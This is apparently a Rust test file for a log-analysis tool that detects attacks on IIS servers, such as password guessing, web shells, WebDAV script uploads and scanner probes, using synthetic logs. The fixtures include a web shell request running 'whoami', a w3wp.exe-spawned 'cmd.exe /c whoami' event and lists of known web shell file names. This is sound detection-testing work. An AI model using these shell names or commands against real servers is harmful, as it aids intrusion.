    assert!(d.evidence.path.contains("FTPSVC3") && d.evidence.line.is_some(), "{:?}", d.evidence);
    assert!(d.evidence.summary.contains("PASS *** (/) 230"), "{}", d.evidence.summary);
    assert!(d.matched.iter().any(|(f, v)| f == "c-ip" && v == "185.220.101.4"), "{:?}", d.matched);
    let healthy = hunt_scenario("healthy");
    assert!(
        !healthy.detections.iter().any(|d| d.rule.meta.title.contains("FTP")),
        "{:#?}",
        healthy.detections
    );
}

/// The generated password guessing on the login form: the forty-first
/// POST, answered 302, is one high detection citing its line; the healthy
/// day's Windows-authentication handshakes (401.2, 401.1, then 200 as a
/// user) give none.
#[test]
fn a_password_guessed_on_the_site_is_the_request_that_got_through() {
    let report = hunt_scenario("password-guessing");
    let guessed: Vec<_> =
        report.detections.iter().filter(|d| d.rule.meta.title == "Password Guessed On The Site").collect();
    assert_eq!(guessed.len(), 1, "{guessed:#?}");
    let d = guessed[0];
    assert_eq!(d.rule.meta.level, Level::High);
    assert!(d.evidence.line.is_some(), "{:?}", d.evidence);
    assert!(
        d.evidence.summary.contains("POST /Account/Login 302 from 185.220.101.4"),
        "{}",
        d.evidence.summary
    );
    assert!(
        d.evidence.summary.starts_with("accepted after Password Guessing Against The Site"),
        "{}",
        d.evidence.summary
    );
    let healthy = hunt_scenario("healthy");
    assert!(
        !healthy.detections.iter().any(|d| d.rule.meta.title.contains("Password Guessed")),
        "{:#?}",
        healthy.detections
    );
}

/// Basic authentication guessed through IIS (401.1, 1326), then the same
/// client's first request as a user: one detection citing that request,
/// whatever the chunks the log is read in. Not a detection: the guesser's
/// own request before the guessing, a client's three typos and its login,
/// another user's login an hour and a half after the guessing.
#[test]
fn a_password_guessed_through_iis_authentication_is_found_across_chunks() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let logs = tmp.path().join("LogFiles").join("W3SVC1");
    std::fs::create_dir_all(&logs).expect("creates");
    let mut log = String::from(
        "#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-computername cs-method cs-uri-stem \
         cs-uri-query cs-username c-ip sc-status sc-substatus sc-win32-status\n",
    );
    let row = |log: &mut String, at: &str, user: &str, client: &str, status: &str| {
        log.push_str(&format!("2026-11-24 {at} WEB01 GET /intranet/ - {user} {client} {status}\n"));
    };
    row(&mut log, "09:00:00", "CONTOSO\\jdoe", "203.0.113.9", "200 0 0");
    for i in 0..25 {
        row(
            &mut log,
            &format!("10:{:02}:{:02}", i / 12, i * 5 % 60),
            "administrator",
            "203.0.113.9",
            "401 1 1326",
        );
        if i == 10 {
            row(&mut log, "10:00:51", "CONTOSO\\ann", "198.51.100.7", "200 0 0");
            row(&mut log, "10:00:52", "ann", "198.51.100.7", "401 1 1326");
            row(&mut log, "10:00:53", "ann", "198.51.100.7", "401 1 1326");
            row(&mut log, "10:00:54", "ann", "198.51.100.7", "401 1 1326");
            row(&mut log, "10:00:55", "CONTOSO\\ann", "198.51.100.7", "200 0 0");
        }
    }
    row(&mut log, "10:02:10", "CONTOSO\\administrator", "203.0.113.9", "200 0 0");
    row(&mut log, "10:02:11", "CONTOSO\\administrator", "203.0.113.9", "200 0 0");
    row(&mut log, "11:30:00", "CONTOSO\\backup", "203.0.113.9", "200 0 0");
    std::fs::write(logs.join("u_ex261124.log"), &log).expect("writes");
    let cited = log.lines().position(|l| l.contains("10:02:10")).expect("the login") as u64 + 1;
    for chunk_size in [64, 700, 1 << 20] {
        let engine = Hunt::new(bundled().finish());
        let config =
            ReadConfig { text: faultline_parser::TextConfig { chunk_size }, ..ReadConfig::default() };
        let report = hunt(&[tmp.path().join("LogFiles")], &config, &Scope::default(), &engine, &|_| {});
        let guessed: Vec<_> = report
            .detections
            .iter()
            .filter(|d| d.rule.meta.title == "Password Guessed On The Site")
            .collect();
        assert_eq!(guessed.len(), 1, "chunks of {chunk_size}: {:#?}", report.detections);
        assert_eq!(guessed[0].evidence.line, Some(cited), "chunks of {chunk_size}");
        assert_eq!(
            guessed[0].matched,
            [
                ("c-ip".to_string(), "203.0.113.9".to_string()),
                ("cs-username".into(), "CONTOSO\\administrator".into())
            ]
        );
        assert!(
            guessed[0]
                .evidence
                .summary
                .ends_with("GET /intranet/ 200 as CONTOSO\\administrator from 203.0.113.9"),
            "{}",
            guessed[0].evidence.summary
        );
    }
}

/// The folder of server WEB01 under `dir`, with its site 1's access-log
/// folder (returned, empty) and an HTTP.sys error log of requests
/// refused while their app pool was off (at, path, site, pool), which
/// names the pool that serves each path's folder.
fn server_with_queue_errors(
    dir: &std::path::Path,
    refused: &[(&str, &str, u32, &str)],
) -> (std::path::PathBuf, std::path::PathBuf) {
    let web = dir.join("WEB01");
    let (logs, errors) = (web.join("LogFiles").join("W3SVC1"), web.join("LogFiles").join("HTTPERR"));
    std::fs::create_dir_all(&logs).expect("mkdir");
    std::fs::create_dir_all(&errors).expect("mkdir");
    let mut text = String::from(
        "#Fields: date time c-ip c-port s-ip s-port cs-version cs-method cs-uri streamid sc-status s-siteid \
         s-reason s-queuename\n",
    );
    for (i, (at, path, site, pool)) in refused.iter().enumerate() {
        text.push_str(&format!(
            "{at} 198.51.100.1 {} 10.0.0.5 80 HTTP/1.1 GET {path} - 503 {site} AppOffline {pool}\n",
            50000 + i
        ));
    }
    std::fs::write(errors.join("httperr1.log"), text).expect("writes");
    (web, logs)
}

/// Two sites on one server in two app pools, as the HTTP.sys error log
/// names them for the folder a shell lands in (site 1's queue `ShopPool`,
/// site 2's `ApiPool`), and the
/// `ApiPool` worker starting `cmd.exe` a minute after a web shell request:
/// the request on site 1 is no chain with it (another pool's worker), the
/// same request on site 2 is; each request's detection names its pool.
#[test]
fn a_web_shell_chain_holds_one_app_pools_request_and_worker() {
    let chained = |site: u32| {
        let dir = tempfile::tempdir().expect("tempdir");
        let (web, logs) = server_with_queue_errors(
            dir.path(),
            &[
                ("2025-11-24 09:00:00", "/aspnet_client/system_web/WebUIValidation.js", 1, "ShopPool"),
                ("2025-11-24 09:00:01", "/aspnet_client/system_web/SmartNav.js", 2, "ApiPool"),
            ],
        );
        std::fs::write(
            logs.join("u_ex251124.log"),
            format!(
                "#Fields: date time s-sitename s-computername cs-method cs-uri-stem cs-uri-query c-ip sc-status\n\
                 2025-11-24 10:01:00 W3SVC{site} WEB01 GET /aspnet_client/system_web/update.aspx c=whoami 203.0.113.9 200\n"
            ),
        )
        .expect("writes");
        let worker = event_xml(
            2,
            "Microsoft-Windows-Sysmon",
            1,
            "Microsoft-Windows-Sysmon/Operational",
            &[
                ("Image", "C:\\Windows\\System32\\cmd.exe"),
                ("CommandLine", "cmd.exe /c whoami"),
                ("ParentImage", "c:\\windows\\system32\\inetsrv\\w3wp.exe"),
                ("ParentCommandLine", "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"ApiPool\" -v \"v4.0\""),
                ("User", "IIS APPPOOL\\ApiPool"),
            ],
        );
        std::fs::write(web.join("sysmon.xml"), format!("<Events>{worker}</Events>")).expect("writes");
        let report = run(&[web], bundled());
        let request = report
            .detections
            .iter()
            .find(|d| d.rule.meta.title == "Script Requested Under aspnet_client")
            .expect("the request")
            .app_pool
            .clone();
        let chains: Vec<_> = report
            .detections
            .iter()
            .filter(|d| d.rule.meta.level == Level::Critical)
            .map(|d| (d.app_pool.clone(), d.matched.clone()))
            .collect();
        (request, chains)
    };
    let (pool, chains) = chained(1);
    assert_eq!(pool.as_deref(), Some("ShopPool"));
    assert_eq!(chains, [], "another pool's worker");
    let (pool, chains) = chained(2);
    assert_eq!(pool.as_deref(), Some("ApiPool"));
    assert_eq!(
        chains,
        [(
            Some("ApiPool".to_string()),
            vec![("host".to_string(), "WEB01".to_string()), ("app_pool".to_string(), "ApiPool".to_string())]
        )]
    );
}

/// The detections built after the read from an access-log row (a script
/// that only takes POSTs, a password guessed) take the pool that served
/// the row's folder, as the rule detections of rows do: the HTTP.sys
/// error log names `ShopPool` for site 1's `/Account/` and `/uploads/`,
/// nothing for `/api/`.
#[test]
fn detections_made_after_the_read_take_their_folders_pool() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (web, logs) = server_with_queue_errors(
        dir.path(),
        &[
            ("2026-11-24 09:00:00", "/Account/Help", 1, "ShopPool"),
            ("2026-11-24 09:00:01", "/uploads/a.png", 1, "ShopPool"),
        ],
    );
    let mut log = String::from(
        "#Fields: date time s-sitename s-computername cs-method cs-uri-stem cs-uri-query c-ip sc-status\n",
    );
    for i in 0..25 {
        log.push_str(&format!(
            "2026-11-24 10:00:{:02} W3SVC1 WEB01 POST /Account/Login - 203.0.113.9 401\n",
            i * 2
        ));
    }
    log.push_str("2026-11-24 10:01:00 W3SVC1 WEB01 POST /Account/Login - 203.0.113.9 302\n");
    log.push_str("2026-11-24 10:02:00 W3SVC1 WEB01 POST /uploads/x.aspx - 198.51.100.7 200\n");
    log.push_str("2026-11-24 10:03:00 W3SVC1 WEB01 POST /api/y.aspx - 198.51.100.7 200\n");
    std::fs::write(logs.join("u_ex261124.log"), log).expect("writes");
    let report = run(&[web], bundled());
    let pool_of = |title: &str, stem: &str| {
        let d = report
            .detections
            .iter()
            .find(|d| d.rule.meta.title == title && d.evidence.summary.contains(stem))
            .unwrap_or_else(|| panic!("{title} {stem}: {:#?}", report.detections));
        d.app_pool.clone()
    };
    assert_eq!(pool_of("Password Guessed On The Site", "/Account/Login").as_deref(), Some("ShopPool"));
    assert_eq!(
        pool_of("Script Answering POSTs That Nobody Asks For With GET", "/uploads/x.aspx").as_deref(),
        Some("ShopPool")
    );
    assert_eq!(
        pool_of("Script Answering POSTs That Nobody Asks For With GET", "/api/y.aspx"),
        None,
        "a folder no pool served"
    );
}

/// Where a guessed password shows and where it does not. Found: a login on
/// the farm's other server than the guessing's first; a user's first login
/// in another site's log, after another user's earlier one there. Not
/// found: a user who was getting through before the guessing began (a
/// shared terminal server, another account's stale password retried); a
/// login form's redirect when the guessing was against IIS's own
/// authentication under user names (Outlook on the web redirects failures
/// too); the guessing's summary names the accounts tried.
#[test]
fn a_guessed_password_is_a_users_first_login_from_the_guessing_client() {
    let header = "#Fields: date time s-sitename s-computername cs-method cs-uri-stem cs-uri-query cs-username c-ip \
                  sc-status sc-substatus sc-win32-status\n";
    let row = |at: &str, site: u32, server: &str, request: &str, user: &str, client: &str, status: &str| {
        format!("2026-11-24 {at} W3SVC{site} {server} {request} - {user} {client} {status}\n")
    };
    let rejections =
        |from_minute: u32, user: &dyn Fn(u32) -> String, server: &dyn Fn(u32) -> &'static str| {
            (0..25)
                .map(|i| {
                    let at = format!("10:{:02}:{:02}", from_minute + i / 12, i * 5 % 60);
                    row(&at, 1, server(i), "GET /ews/exchange.asmx", &user(i), "203.0.113.9", "401 1 1326")
                })
                .collect::<String>()
        };
    let guessed = |files: &[(&str, String)]| {
        let dir = tempfile::tempdir().expect("tempdir");
        for (name, text) in files {
            let path = dir.path().join(name);
            std::fs::create_dir_all(path.parent().expect("a folder")).expect("mkdir");
            std::fs::write(&path, format!("{header}{text}")).expect("writes");
        }
        let report = run(&[dir.path().to_path_buf()], bundled());
        let guessing = report
            .detections
            .iter()
            .find(|d| d.rule.meta.title == "Password Guessing Against The Site")
            .map(|d| d.evidence.summary.clone())
            .expect("the guessing");
        let found: Vec<(String, String)> = report
            .detections
            .iter()
            .filter(|d| d.rule.meta.title == "Password Guessed On The Site")
            .map(|d| (d.host.clone(), d.evidence.summary.rsplit(": ").next().unwrap_or_default().to_string()))
            .collect();
        (guessing, found)
    };
    let admin = |_: u32| "admin".to_string();
    // A farm: the guessing alternates between the servers; the login is WEB02's.
    let farm = rejections(10, &admin, &|i| if i % 2 == 0 { "WEB01" } else { "WEB02" });
    let (web01, web02): (String, String) = (
        farm.lines().filter(|l| l.contains("WEB01")).map(|l| format!("{l}\n")).collect(),
        farm.lines().filter(|l| l.contains("WEB02")).map(|l| format!("{l}\n")).collect::<String>()
            + &row(
                "10:13:20",
                1,
                "WEB02",
                "GET /ews/exchange.asmx",
                "CONTOSO\\admin",
                "203.0.113.9",
                "200 0 0",
            ),
    );
    let (_, found) =
        guessed(&[("WEB01/W3SVC1/u_ex261124.log", web01), ("WEB02/W3SVC1/u_ex261124.log", web02)]);
    assert_eq!(
        found,
        [("WEB02".to_string(), "GET /ews/exchange.asmx 200 as CONTOSO\\admin from 203.0.113.9".to_string())]
    );
    // Another site's log: a partner's login before a spray of one
    // password over many accounts, the victim's after it.
    let portal = row("10:00:00", 2, "WEB01", "GET /portal/", "CONTOSO\\partner", "203.0.113.9", "200 0 0")
        + &row("10:15:00", 2, "WEB01", "GET /portal/", "CONTOSO\\victim", "203.0.113.9", "200 0 0");
    let spray = |i: u32| format!("CONTOSO\\user{i}");
    let (_, found) = guessed(&[
        ("WEB01/W3SVC1/u_ex261124.log", rejections(10, &spray, &|_| "WEB01")),
        ("WEB01/W3SVC2/u_ex261124.log", portal.clone()),
    ]);
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(found[0].1.contains("as CONTOSO\\victim"), "{found:?}");
    // One account's password guessed (or an office's Outlook retrying a
    // stale one, behind the office's one address): another user signing
    // in from that address is no guess; the account's own login, under
    // its other spelling, is.
    let (_, found) = guessed(&[
        ("WEB01/W3SVC1/u_ex261124.log", rejections(10, &admin, &|_| "WEB01")),
        ("WEB01/W3SVC2/u_ex261124.log", portal),
    ]);
    assert_eq!(found, []);
    // Outlook on the web answers a failed form login 302 under the name
    // tried as well: the mailbox opened as the account is its login.
    let upn = rejections(10, &admin, &|_| "WEB01")
        + &row("10:14:00", 1, "WEB01", "POST /owa/auth.owa", "jsmith@contoso.com", "203.0.113.9", "302 0 0")
        + &row("10:14:01", 1, "WEB01", "GET /owa/", "jsmith@contoso.com", "203.0.113.9", "200 0 0")
        + &row("10:15:00", 1, "WEB01", "POST /owa/auth.owa", "admin@contoso.com", "203.0.113.9", "302 0 0")
        + &row("10:15:01", 1, "WEB01", "GET /owa/", "admin@contoso.com", "203.0.113.9", "200 0 0");
    let (_, found) = guessed(&[("WEB01/W3SVC1/u_ex261124.log", upn)]);
    assert_eq!(
        found,
        [("WEB01".to_string(), "GET /owa/ 200 as admin@contoso.com from 203.0.113.9".to_string())]
    );
    // Rejections under no name beside the one account's: a form's, of
    // accounts that may be any; the other user's login is the guess.
    let mixed =
        rejections(10, &|i| if i % 2 == 0 { "admin".to_string() } else { "-".to_string() }, &|_| "WEB01")
            + &row(
                "10:14:00",
                1,
                "WEB01",
                "POST /owa/auth.owa",
                "jsmith@contoso.com",
                "203.0.113.9",
                "302 0 0",
            )
            + &row("10:14:01", 1, "WEB01", "GET /owa/", "jsmith@contoso.com", "203.0.113.9", "200 0 0");
    let (_, found) = guessed(&[("WEB01/W3SVC1/u_ex261124.log", mixed)]);
    assert_eq!(
        found,
        [("WEB01".to_string(), "GET /owa/ 200 as jsmith@contoso.com from 203.0.113.9".to_string())]
    );
    // A terminal server: a service's stale password retried while a user
    // who was already in goes on working.
    let retried =
        row("10:00:00", 1, "WEB01", "GET /reports/home.aspx", "CONTOSO\\alice", "203.0.113.9", "200 0 0")
            + &rejections(5, &|_| "CONTOSO\\svc_report".to_string(), &|_| "WEB01")
            + &row(
                "10:06:00",
                1,
                "WEB01",
                "GET /reports/home.aspx",
                "CONTOSO\\alice",
                "203.0.113.9",
                "200 0 0",
            );
    let (guessing, found) = guessed(&[("WEB01/W3SVC1/u_ex261124.log", retried)]);
    assert_eq!(found, []);
    assert!(guessing.contains("cs-username CONTOSO\\svc_report 25 times"), "{guessing}");
    // A login more than half an hour after the guessing's last rejection
    // (10:12:00) is no guess of it; at half an hour it is.
    for (at, cited) in [("10:42:01", false), ("10:42:00", true)] {
        let late = rejections(10, &admin, &|_| "WEB01")
            + &row(at, 1, "WEB01", "GET /ews/exchange.asmx", "CONTOSO\\admin", "203.0.113.9", "200 0 0");
        let (_, found) = guessed(&[("WEB01/W3SVC1/u_ex261124.log", late)]);
        assert_eq!(found.len(), usize::from(cited), "{at}: {found:?}");
    }
    // Outlook on the web: EWS guessed under users' names, then the form's
    // redirect (its failure page), then a user's login.
    let owa = rejections(10, &|i| format!("contoso.com\\u{i}"), &|_| "WEB01")
        + &row("10:12:00", 1, "WEB01", "POST /owa/auth.owa", "-", "203.0.113.9", "302 0 0");
    let (_, found) = guessed(&[("WEB01/W3SVC1/u_ex261124.log", owa.clone())]);
    assert_eq!(found, []);
    let owa = owa
        + &row(
            "10:20:00",
            1,
            "WEB01",
            "POST /EWS/Exchange.asmx",
            "contoso.com\\victim",
            "203.0.113.9",
            "200 0 0",
        );
    let (_, found) = guessed(&[("WEB01/W3SVC1/u_ex261124.log", owa)]);
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(found[0].1.starts_with("POST /EWS/Exchange.asmx 200 as contoso.com\\victim"), "{found:?}");
}

/// FTP rules name the session (`x-session`, or the number IIS 6 wrote
/// before the command) and the full path (`x-fullpath`) as fields: one
/// session's uploads counted by path.
#[test]
fn ftp_rules_read_the_session_and_the_full_path() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let rules = tmp.path().join("rules.yml");
    std::fs::write(
        &rules,
        "title: Upload\nname: upload\nlogsource:\n  category: ftp\ndetection:\n  selection:\n    cs-method: STOR\n    \
         cs-uri-stem|startswith: /wwwroot/\n  condition: selection\nlevel: informational\n---\n\
         title: Many Uploads In One Session\ncorrelation:\n  type: value_count\n  rules: [upload]\n  group-by: [x-session]\n  \
         timespan: 10m\n  condition:\n    gte: 3\n    field: cs-uri-stem\nlevel: medium\n---\n\
         title: That Page\nlogsource:\n  category: ftp\ndetection:\n  selection:\n    x-fullpath: /wwwroot/c.aspx\n  \
         condition: selection\nlevel: low\n",
    )
    .expect("writes");
    let logs = tmp.path().join("LogFiles").join("FTPSVC1");
    std::fs::create_dir_all(&logs).expect("mkdir");
    let mut log = String::from(
        "#Fields: date time c-ip cs-username s-ip s-port cs-method cs-uri-stem sc-status sc-win32-status \
         sc-substatus x-session x-fullpath\n",
    );
    for (i, (session, file)) in
        [("aaaa", "a.aspx"), ("bbbb", "x.aspx"), ("aaaa", "b.aspx"), ("aaaa", "c.aspx"), ("bbbb", "y.aspx")]
            .iter()
            .enumerate()
    {
        log.push_str(&format!(
            "2026-11-24 10:00:0{i} 203.0.113.7 deploy 10.0.0.5 21 STOR {file} 226 0 0 {session} /wwwroot/{file}\n"
        ));
    }
    std::fs::write(logs.join("u_ex261124.log"), log).expect("writes");
    // IIS 6: the session before the command.
    let old = tmp.path().join("LogFiles").join("MSFTPSVC1");
    std::fs::create_dir_all(&old).expect("mkdir");
    let mut log6 =
        String::from("#Fields: time c-ip cs-method cs-uri-stem sc-status\n#Date: 2026-11-24 00:00:00\n");
    for (i, file) in ["/wwwroot/p.aspx", "/wwwroot/q.aspx", "/wwwroot/r.aspx"].iter().enumerate() {
        log6.push_str(&format!("11:00:0{i} 203.0.113.8 [7]STOR {file} 226\n"));
    }
    std::fs::write(old.join("ex261124.log"), log6).expect("writes");
    let mut loaded = LoadReport::default();
    loaded.add_path(&rules, false).expect("rules load");
    let report = run(&[tmp.path().join("LogFiles")], loaded);
    let fired: Vec<_> = report
        .detections
        .iter()
        .filter(|d| d.rule.meta.title == "Many Uploads In One Session")
        .map(|d| d.matched.clone())
        .collect();
    assert_eq!(
        fired,
        [
            vec![("x-session".to_string(), "aaaa".to_string())],
            vec![("x-session".to_string(), "7".to_string())]
        ],
        "{:#?}",
        report.detections
    );
    let page: Vec<_> = report.detections.iter().filter(|d| d.rule.meta.title == "That Page").collect();
    assert_eq!(page.len(), 1, "{page:#?}");
    assert_eq!(page[0].evidence.line, Some(5));
}

/// A site answering every path with its own page (a single-page
/// application's fallback) answers a scanner's probes for PHP, JSP and
/// ASP.NET shells with 200, and its posts to PHP pages as a script that
/// only takes posts: those detections are kept at level low, saying why.
/// A shell really there (asked for again and again), a client whose five
/// probes were answered as ASP.NET pages of different sizes, and a scanner
/// whose shell probes got 404 keep their levels.
#[test]
fn a_site_answering_every_path_lowers_the_probes_it_answered() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut log = String::from(
        "#Fields: date time s-sitename s-ip cs-method cs-uri-stem cs-uri-query c-ip sc-status sc-bytes\r\n",
    );
    let mut request =
        |at: &str, method: &str, site: &str, stem: &str, client: &str, status: u16, bytes: u32| {
            log.push_str(&format!(
                "2025-01-01 {at} {site} 10.0.0.1 {method} {stem} - {client} {status} {bytes}\r\n"
            ));
        };
    let mut row = |at: &str, site: &str, stem: &str, client: &str, status: u16, bytes: u32| {
        request(at, "GET", site, stem, client, status, bytes)
    };
    // The scanner on the catch-all site: one page of 1,234 bytes for all.
    let probes = ["/cmd.php", "/wso.php", "/shell.jsp", "/aspxspy.aspx", "/c99.php", "/cmd.aspx"];
    for (i, stem) in probes.iter().enumerate() {
        row(&format!("10:00:{:02}", i * 5), "W3SVC1", stem, "203.0.113.9", 200, 1234);
    }
    // A shell really there, on another site, used for an hour.
    for i in 0..6 {
        row(&format!("10:{:02}:00", 10 + i * 9), "W3SVC2", "/uploads/cmd.aspx", "198.51.100.4", 200, 300 + i);
    }
    // Five ASP.NET shells answered, each its own size, on a third site.
    let aspx = ["/shell.aspx", "/antak.aspx", "/regeorg.aspx", "/tunnel.aspx", "/chopper.aspx"];
    for (i, stem) in aspx.iter().enumerate() {
        row(&format!("11:00:{:02}", i * 5), "W3SVC3", stem, "198.51.100.8", 200, 900 + i as u32 * 17);
    }
    // The same five on a fourth site, answered with one page of 5,120 bytes.
    for (i, stem) in aspx.iter().enumerate() {
        row(&format!("11:30:{:02}", i * 5), "W3SVC5", stem, "198.51.100.8", 200, 5120);
    }
    // The same scanner on an ordinary site: 404s, no detection.
    for (i, stem) in probes.iter().enumerate() {
        row(&format!("12:00:{:02}", i * 5), "W3SVC4", stem, "203.0.113.9", 404, 1245);
    }
    // A scanner posting to PHP pages of a site answering each with one
    // page: scripts answering posts that nobody asks for with GET.
    let posted = ["/xmlrpc.php", "/index.php", "/admin.php", "/upload.php", "/config.php"];
    for (i, stem) in posted.iter().enumerate() {
        request(&format!("13:00:{:02}", i * 5), "POST", "W3SVC6", stem, "203.0.113.9", 200, 777);
    }
    let path = dir.path().join("u_ex250101.log");
    std::fs::write(&path, log).expect("writes");
    let report = run(&[path], bundled());
    let shells: Vec<_> = report
        .detections
        .iter()
        .filter(|d| d.rule.meta.title == "Request For A Known Web Shell File Name")
        .map(|d| (d.site.clone().unwrap_or_default(), d.rule.meta.level, d.evidence.summary.clone()))
        .collect();
    let on = |site: &str| shells.iter().filter(|(s, _, _)| s == site).collect::<Vec<_>>();
    assert_eq!(on("1").len(), probes.len(), "{shells:#?}");
    let lowered: Vec<_> = report.detections.iter().filter_map(|d| d.lowered_from).collect();
    assert_eq!(lowered.len(), probes.len() + aspx.len() + posted.len(), "{shells:#?}");
    assert!(lowered[..probes.len()].iter().all(|l| *l == Level::High), "{lowered:?}");
    for (_, level, summary) in on("1") {
        assert_eq!(*level, Level::Low, "{summary}");
        assert!(
            summary.starts_with(
                "likely the site's page for any path (6 paths this client asked for within minutes, all \
                 answered 200 as ASP.NET, PHP, JSP pages alike; lowered from high): GET /"
            ),
            "{summary}"
        );
    }
    for site in ["2", "3"] {
        assert_eq!(on(site).len(), if site == "2" { 6 } else { aspx.len() }, "{shells:#?}");
        assert!(on(site).iter().all(|(_, level, _)| *level == Level::High), "{shells:#?}");
    }
    assert!(on("4").is_empty(), "{shells:#?}");
    let posts: Vec<_> =
        report.detections.iter().filter(|d| d.rule.meta.origin == "native:post-only-script").collect();
    assert_eq!(posts.len(), posted.len(), "{posts:#?}");
    for d in posts {
        assert_eq!((d.site.as_deref(), d.rule.meta.level), (Some("6"), Level::Low), "{d:#?}");
        assert!(
            d.evidence
                .summary
                .contains("all answered 200 each with the same 777 bytes; lowered from medium)")
        );
    }
    assert_eq!(on("5").len(), aspx.len(), "{shells:#?}");
    for (_, level, summary) in on("5") {
        assert_eq!(*level, Level::Low, "{summary}");
        assert!(summary.contains("(5 paths this client asked for within minutes, all answered 200 each with the same 5120 bytes; lowered from high)"), "{summary}");
    }
}

/// Pages written into a site through WebDAV are found through the whole
/// read (the line filter, which is not asked for pages, and the row's
/// status): one detection for the client, its first write cited by line;
/// a REST API's PUTs answered 204 and a refused PUT of a page are none.
#[test]
fn scripts_written_through_webdav_are_one_detection_citing_the_first() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut log = String::from(
        "#Software: Microsoft Internet Information Services 10.0\r\n\
         #Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port c-ip sc-status\r\n",
    );
    for i in 0..200 {
        log.push_str(&format!(
            "2025-01-01 10:{:02}:{:02} 10.0.0.1 PUT /api/orders/{i} - 443 198.51.100.{} 204\r\n",
            i / 60,
            i % 60,
            i % 50
        ));
    }
    log.push_str("2025-01-01 11:00:00 10.0.0.1 PUT /uploads/help.aspx - 80 203.0.113.7 403\r\n");
    log.push_str("2025-01-01 11:00:05 10.0.0.1 PUT /uploads/notes.txt - 80 203.0.113.7 201\r\n");
    log.push_str("2025-01-01 11:00:09 10.0.0.1 COPY /uploads/notes.txt - 80 203.0.113.7 201\r\n");
    log.push_str("2025-01-01 11:00:12 10.0.0.1 PUT /uploads/help.aspx - 80 203.0.113.7 201\r\n");
    log.push_str("2025-01-01 11:00:20 10.0.0.1 PUT /uploads/web.config - 80 203.0.113.7 204\r\n");
    log.push_str("2025-01-01 11:01:00 10.0.0.1 GET /uploads/help.aspx cmd=whoami 80 203.0.113.7 200\r\n");
    let path = dir.path().join("u_ex250101.log");
    std::fs::write(&path, log).expect("writes");
    for engine in [Hunt::new(bundled().finish()), Hunt::new(bundled().finish()).unscreened()] {
        let report =
            hunt(std::slice::from_ref(&path), &ReadConfig::default(), &Scope::default(), &engine, &|_| {});
        let written: Vec<_> = report
            .detections
            .iter()
            .filter(|d| d.rule.meta.title == "Scripts Written Through WebDAV")
            .collect();
        assert_eq!(written.len(), 1, "{written:#?}");
        assert_eq!(written[0].evidence.line, Some(206), "the first page written: {:?}", written[0].evidence);
        assert!(
            written[0].evidence.summary.starts_with("2 matches of Script Written Through WebDAV"),
            "{}",
            written[0].evidence.summary
        );
    }
}

/// A log whose fields leave out `time` places every row at midnight: 40
/// distinct 404s from one client there are no burst (they may be spread
/// over the day), and the report names the file as timed by its date
/// alone. The same rows with their times are a burst. A log in the IIS
/// native format is named as timed by the server's local clock.
#[test]
fn rows_without_a_time_of_day_make_no_burst_and_doubted_times_are_named() {
    let dir = tempfile::tempdir().expect("tempdir");
    let rows = |timed: bool| -> String {
        let fields = if timed { "date time" } else { "date" };
        let mut log = format!(
            "#Software: Microsoft Internet Information Services 10.0\r\n#Fields: {fields} s-computername cs-method cs-uri-stem sc-status c-ip\r\n"
        );
        for i in 0..40 {
            let time = if timed { format!(" 10:00:{:02}", i) } else { String::new() };
            log.push_str(&format!("2025-11-24{time} WEB01 GET /probe{i}.php 404 198.51.100.7\r\n"));
        }
        log
    };
    let burst = |name: &str, timed: bool| -> HuntReport {
        let path = dir.path().join(name);
        std::fs::write(&path, rows(timed)).expect("writes");
        run(&[path], bundled())
    };
    let scanner = |r: &HuntReport| {
        r.detections.iter().filter(|d| d.rule.meta.title.starts_with("Scanner Burst")).count()
    };
    let dated = burst("u_ex251124_dated.log", false);
    assert_eq!(scanner(&dated), 0, "{:#?}", dated.detections);
    assert_eq!(dated.date_only_files.len(), 1);
    assert!(dated.local_time_files.is_empty());
    let timed = burst("u_ex251124_timed.log", true);
    assert_eq!(scanner(&timed), 1);
    assert!(timed.date_only_files.is_empty() && timed.local_time_files.is_empty());
    let native = dir.path().join("in251124.log");
    std::fs::write(&native, "198.51.100.7, -, 11/24/2025, 10:00:01, W3SVC1, WEB01, 10.0.0.5, 15, 300, 1500, 404, 2, GET, /x.php, -,\r\n")
        .expect("writes");
    assert_eq!(run(&[native], bundled()).local_time_files.len(), 1);
}

/// A scanner walking two servers behind a balancer, 20 paths on each: the
/// one burst says how many of its matches each server logged.
#[test]
fn a_burst_over_two_servers_names_each() {
    let dir = tempfile::tempdir().expect("tempdir");
    for (host, offset) in [("WEB01", 0), ("WEB02", 1)] {
        let mut log = String::from(
            "#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time s-computername cs-method cs-uri-stem sc-status c-ip\r\n",
        );
        for i in 0..20 {
            let second = 2 * i + offset;
            log.push_str(&format!(
                "2025-11-24 10:00:{second:02} {host} GET /{host}/probe{i}.php 404 198.51.100.7\r\n"
            ));
        }
        std::fs::write(dir.path().join(format!("{host}.log")), log).expect("writes");
    }
    let report = run(&[dir.path().to_path_buf()], bundled());
    let bursts: Vec<&str> = report
        .detections
        .iter()
        .filter(|d| d.rule.meta.title.starts_with("Scanner Burst"))
        .map(|d| d.evidence.summary.as_str())
        .collect();
    assert_eq!(bursts.len(), 1, "{bursts:?}");
    assert!(bursts[0].contains(" on WEB01 (20), WEB02 (20)"), "{}", bursts[0]);
}

/// A W3C log of WEB01 with a request every minute from 10:00 to 10:39 and
/// from 11:20 to 11:29: forty minutes of silence after 10:40.
fn silent_from_10_40(dir: &Path) -> PathBuf {
    let mut log = String::from(
        "#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time s-computername cs-method cs-uri-stem s-port c-ip sc-status time-taken\r\n",
    );
    for minute in (0..40).chain(80..90) {
        let (h, m) = (10 + minute / 60, minute % 60);
        log.push_str(&format!("2025-11-24 {h:02}:{m:02}:10 WEB01 GET /shop/ 443 198.51.100.7 200 31\r\n"));
    }
    let path = dir.join("u_ex251124.log");
    std::fs::write(&path, log).expect("writes");
    path
}

/// Logging switched off as Windows writes it: the IIS-Configuration
/// Operational channel under its provider's manifest name,
/// Microsoft-Windows-IIS-Configuration (a bare `Microsoft-IIS-Configuration`
